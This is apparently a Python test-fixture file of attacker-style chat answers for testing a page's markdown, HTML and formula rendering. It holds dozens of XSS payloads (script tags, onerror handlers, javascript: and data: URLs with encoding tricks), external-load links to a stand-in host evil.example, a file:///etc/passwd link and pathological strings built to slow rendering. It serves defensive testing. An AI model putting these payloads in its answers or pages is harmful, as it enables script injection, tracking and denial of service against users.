"""Answers as an attacker would have a model write them: scripts, links, pictures, formulas, endless lines.

Whatever of them could run calls `canary`; whatever could load names a host that is not there.
"""

from dataclasses import dataclass

AWAY = "evil.example"
CALL = "canary(1)"


@dataclass(frozen=True)
class Payload:
    """One hostile answer."""

    text: str
    shows: str = ""
    """What people must see of it, as text."""


TAGS = (
    f"<script>{CALL}</script>",
    f"<script src=https://{AWAY}/x.js></script>",
    f"<ScRiPt type=module>{CALL}</sCrIpT>",
    f"<script\n>{CALL}</script\n>",
    f"<script/x>{CALL}</script>",
    f"<<script>{CALL}//<</script>",
    f"<img src=x onerror={CALL}>",
    f'<img src="https://{AWAY}/a.png">',
    f"<img/src=`x`/onerror={CALL}>",
    f'<img srcset="https://{AWAY}/a.png 1x">',
    f"<IMG SRC=javascript:{CALL}>",
    f"<image href=x onerror={CALL}>",
    f"<svg onload={CALL}>",
    f"<svg><script>{CALL}</script></svg>",
    f"<svg><animate onbegin={CALL} attributeName=x dur=1s></svg>",
    f'<svg><a xlink:href="javascript:{CALL}"><text>x</text></a></svg>',
    f'<svg><use href="https://{AWAY}/x.svg#a"></use></svg>',
    f"<svg><foreignObject><iframe onload={CALL}></iframe></foreignObject></svg>",
    f'<svg><image href="https://{AWAY}/x.png"></image></svg>',
    f'<math><mtext><a xlink:href="javascript:{CALL}">x</a></mtext></math>',
    f"<math><mglyph><style><!--</style><img title='--><img src=x onerror={CALL}>'></math>",
    f"<math><annotation-xml encoding=text/html><img src=x onerror={CALL}></annotation-xml></math>",
    f'<a href="javascript:{CALL}">x</a>',
    f'<a href="https://{AWAY}/" onmouseover={CALL}>x</a>',
    f"<a href=data:text/html,<script>{CALL}</script>>x</a>",
    f'<iframe src="javascript:{CALL}"></iframe>',
    f'<iframe srcdoc="<script>parent.{CALL}</script>"></iframe>',
    f"<iframe src=https://{AWAY}></iframe>",
    f'<object data="javascript:{CALL}"></object>',
    f"<object data=https://{AWAY}/x.swf></object>",
    f"<embed src=javascript:{CALL}>",
    f'<form action="javascript:{CALL}"><button>x</button></form>',
    f"<form action=https://{AWAY}><input autofocus onfocus={CALL}></form>",
    f"<button formaction=javascript:{CALL}>x</button>",
    f"<input type=image src=https://{AWAY}/a.png>",
    f"<body onload={CALL}>",
    f"<details open ontoggle={CALL}><summary>x</summary></details>",
    f"<video><source onerror={CALL}></video>",
    f"<video poster=https://{AWAY}/a.png></video>",
    f"<audio src=https://{AWAY}/a.mp3 autoplay></audio>",
    f"<marquee onstart={CALL}>x</marquee>",
    f"<select autofocus onfocus={CALL}></select>",
    f"<style>@import url(https://{AWAY}/x.css);</style>",
    f"<style>*{{background:url(https://{AWAY}/x)}}</style>",
    f"<link rel=stylesheet href=https://{AWAY}/x.css>",
    f"<link rel=prefetch href=https://{AWAY}/x>",
    f'<meta http-equiv=refresh content="0;url=https://{AWAY}/">',
    f'<meta http-equiv=refresh content="0;url=javascript:{CALL}">',
    f"<base href=https://{AWAY}/>",
    f"<div style=\"background:url('https://{AWAY}/x')\">x</div>",
    "<div style=position:fixed;inset:0;z-index:9999>x</div>",
    f"<p style=width:expression({CALL})>x</p>",
    "<form id=stage><input name=attributes></form>",
    "<a id=location name=canary>x</a>",
    f'<noscript><p title="</noscript><img src=x onerror={CALL}>"></noscript>',
    f"<template><script>{CALL}</script></template>",
    f'<xmp><p title="</xmp><img src=x onerror={CALL}>"></xmp>',
    f"<textarea></textarea><img src=x onerror={CALL}>",
    f"<!--><img src=x onerror={CALL}>-->",
    f"<![CDATA[<img src=x onerror={CALL}>]]>",
    f"<?xml version=1?><img src=x onerror={CALL}>",
    f"<x-custom onclick={CALL} contenteditable autofocus onfocus={CALL} tabindex=1>x</x-custom>",
    f"<portal src=https://{AWAY}>",
    f"<table background=https://{AWAY}/a.png><td>x</td></table>",
)
PLACES = ("{}", "Before {} behind", "- one\n- {}", "> {}", "## {}", "**{}**")
"""Where in markdown a tag stands. All keep its line whole."""
ADDRESSES = (
    f"javascript:{CALL}",
    f"JaVaScRiPt:{CALL}",
    f"javascript&colon;{CALL}",
    f"javascript&#58;{CALL}",
    f"&#106;avascript:{CALL}",
    f"&#x6A;&#x61;vascript:{CALL}",
    f"java&Tab;script:{CALL}",
    f"java&#10;script:{CALL}",
    f"&#1;javascript:{CALL}",
    f"\u0001javascript:{CALL}",
    f"\u00a0javascript:{CALL}",
    f"javascript\u200b:{CALL}",
    f"javascript://{AWAY}/%0a{CALL}",
    f"javascript%3A{CALL}",
    f"\\javascript:{CALL}",
    f"data:text/html,<script>{CALL}</script>",
    "data:text/html;base64,PHNjcmlwdD5jYW5hcnkoMSk8L3NjcmlwdD4=",
    f"data:image/svg+xml,<svg onload={CALL}>",
    f"vbscript:{CALL}",
    f"view-source:javascript:{CALL}",
    f"blob:https://{AWAY}/1",
    f"filesystem:https://{AWAY}/1",
    "file:///etc/passwd",
    f"//{AWAY}/x.png",
    f"https://{AWAY}/x.png",
    "/bodhi/v1/sessions/current",
)
SPELLINGS = (
    "[x]({})",
    "[x](<{}>)",
    '[x]({} "title")',
    "[x][1]\n\n[1]: {}",
    "[x][]\n\n[x]: <{}>",
    "[x]\n\n[x]: {} 'title'",
    "<{}>",
    "![x]({})",
    "![x][1]\n\n[1]: {}",
    "[![x]({})](https://example.org/)",
    "| a |\n| - |\n| [x]({}) |",
    "{}",
)
FORMULAS = (
    rf"\href{{javascript:{CALL}}}{{x}}",
    rf"\href{{https://{AWAY}}}{{x}}",
    rf"\url{{javascript:{CALL}}}",
    rf"\includegraphics{{https://{AWAY}/a.png}}",
    rf"\includegraphics[height=1em]{{https://{AWAY}/a.png}}",
    rf"\htmlData{{onclick={CALL}}}{{x}}",
    r"\htmlId{stage}{x}",
    r"\htmlClass{fixed inset-0}{x}",
    rf"\htmlStyle{{background:url(https://{AWAY})}}{{x}}",
    rf"\text{{<img src=x onerror={CALL}>}}",
    r"\def\a{\a\a}\a",
    r"\def\a#1{\a{#1#1}}\a{x}",
    r"\rule{1000000em}{1000000em}",
    r"\kern{999999em}x",
    r"\color{red;background:url(//evil.example)}x",
    r"\unicode{x3c}script\unicode{x3e}",
    r"\begin{matrix}" + "a&" * 200 + r"\end{matrix}",
    "{" * 300 + "x" + "}" * 300,
    r"\frac" * 200 + "1",
    "x^" * 200 + "x",
)
FENCES = (
    f'"><img src=x onerror={CALL}>',
    f"<script>{CALL}</script>",
    f"js onload={CALL}",
    f'html"onmouseover="{CALL}',
    "constructor",
    "__proto__",
    "javascript:canary(1)",
    "x" * 500,
    "{.python onclick=canary(1)}",
    "html</code></pre><script>canary(1)</script>",
)
TRICKS = (
    f"&lt;script&gt;{CALL}&lt;/script&gt;",
    f"&amp;lt;script&amp;gt;{CALL}",
    f"&#60;img src=x onerror={CALL}&#62;",
    f"\uff1cscript\uff1e{CALL}\uff1c/script\uff1e",
    f"<\u0000script>{CALL}</script>",
    f"\u202e<script>{CALL}</script>\u202c",
    "\u202e\u2066\u2067" * 100,
    "Z\u0351\u036b\u0343" * 300,
    f"+ADw-script+AD4-{CALL}+ADw-/script+AD4-",
    f"\\<script>{CALL}\\</script>",
    f"`<script>{CALL}</script>",
    f"    <script>{CALL}</script>",
    f"~~~\n<script>{CALL}</script>",
    f"[x]: javascript:{CALL} '<script>{CALL}</script>'\n[x]",
    f"[^1]\n\n[^1]: <img src=x onerror={CALL}>",
    "%3Cscript%3Ecanary(1)%3C/script%3E",
    "\ud7ff\ue000\ufffe\uffff\u2028\u2029\ufeff",
    "&#0;&#xD800;&#x110000;&#99999999;&nosuch;",
)
ENDLESS = (
    "x" * 5_000,
    "<" * 5_000,
    "&" * 5_000,
    "*" * 5_000,
    "*a " * 1_700,
    "**a*" * 1_250,
    "_a_" * 1_700,
    "`" * 5_000,
    "`a ``b " * 700,
    "[" * 5_000,
    "[a](" * 1_250,
    "![" * 2_500,
    "[[[]]]" * 800,
    "$" * 5_000,
    "$a " * 1_700,
    "\\(" * 2_500,
    "\\[a " * 1_250,
    "~" * 5_000,
    "~~a" * 1_700,
    "|" * 5_000,
    "|a|\n|-|\n" + "|" * 4_000,
    "- " * 2_500,
    "1. " * 1_700,
    ">" * 5_000,
    "> - " * 1_250,
    "#" * 5_000,
    "<a " * 1_700,
    "<!-- " * 1_000,
    "<a href='" + "x" * 5_000,
    "http://" * 700,
    "www." + "a." * 2_500,
    "a@" * 2_500,
    "a" * 2_500 + "@" + "b." * 1_200,
    "\n" * 5_000,
    " " * 5_000 + "x",
    "a  \n" * 1_250,
    "[x]: " * 1_000,
    "\t" * 5_000 + "x",
    "&#" * 2_500,
    "\\" * 5_000,
    "```" + "\n>" * 2_000,
    "".join(f"{'  ' * deep}- {deep}\n" for deep in range(70)),
)

LARGE = tuple(
    unit * (max(1, 30_000 // len(unit)))
    for unit in (
        "__a_ " * 1_800 + "\n",
        "__a_ " * 90 + "\n\n",
        "$" * 9_000 + "\n",
        "$x$ " * 100 + "\n\n",
        "\\[\n",
        "\\[a " * 2_250 + "\n",
        "\\(" * 4_500 + "\n",
        "![" * 4_500 + "\n",
        "[x][" * 2_250 + "\n",
        "<a " * 3_000 + "\n",
        "a@" * 400 + "\n\n",
        "> - " * 10 + "a\nb\n",
        "> a\nb\n> > c\nd\n",
        "| a |\n| - |\n",
        "```\n",
        "x" * 9_000 + "\n",
        "```java\n" + "$" * 29_000 + "\n```\n",
        "```cpp\n" + ("a" * 990 + " ") * 19 + "\n```\n",
    )
)
"""Whole answers of nothing but what is slow to read."""


def _in_place(number: int, tag: str) -> Payload:
    return Payload(PLACES[number % len(PLACES)].format(tag), shows=tag.split("\n", 1)[0].lstrip("<")[:6])


def payloads() -> list[Payload]:
    """Return all that is short: every tag in two places, every address in five spellings, formulas, fences, tricks."""
    tags = [_in_place(number + more, tag) for more in (0, 1) for number, tag in enumerate(TAGS)]
    spelled = [
        Payload(SPELLINGS[(5 * number + more) % len(SPELLINGS)].format(address))
        for number, address in enumerate(ADDRESSES)
        for more in range(5)
    ]
    formulas = [Payload(sign.format(tex)) for tex in FORMULAS for sign in ("a ${}$ b", "$$\n{}\n$$")]
    fences = [Payload(f"```{info}\n<script>{CALL}</script>\n```", f"<script>{CALL}</script>") for info in FENCES]
    return tags + spelled + formulas + fences + [Payload(trick) for trick in TRICKS]


WORST = (
    f"<script>{CALL}</script> and ![x](https://{AWAY}/a.png) and [x](javascript:{CALL})",
    f"<img src=x onerror={CALL}>",
    f"<svg onload={CALL}><script>{CALL}</script></svg>",
    f'<iframe srcdoc="<script>parent.{CALL}</script>"></iframe>',
    f'<meta http-equiv=refresh content="0;url=https://{AWAY}/">',
    f"<style>@import url(https://{AWAY}/x.css);</style><link rel=stylesheet href=https://{AWAY}/x.css>",
    f"| a |\n| - |\n| [x](java&Tab;script:{CALL}) <img src=x onerror={CALL}> |",
    f"```html\n<script>{CALL}</script><img src=x onerror={CALL}>\n```",
    f"```{FENCES[0]}\n<script>{CALL}</script>\n```",
    rf"$$\href{{javascript:{CALL}}}{{x}} \includegraphics{{https://{AWAY}/a.png}} \text{{<img src=x onerror={CALL}>}}$$",
    f"[![x](https://{AWAY}/a.png)][1]\n\n[1]: data:text/html,<script>{CALL}</script>",
    "> " * 60 + f"<img src=x onerror={CALL}> " + "Z\u0351\u036b\u0343" * 50 + "W" * 500,
)
"""What goes through the whole chat page."""
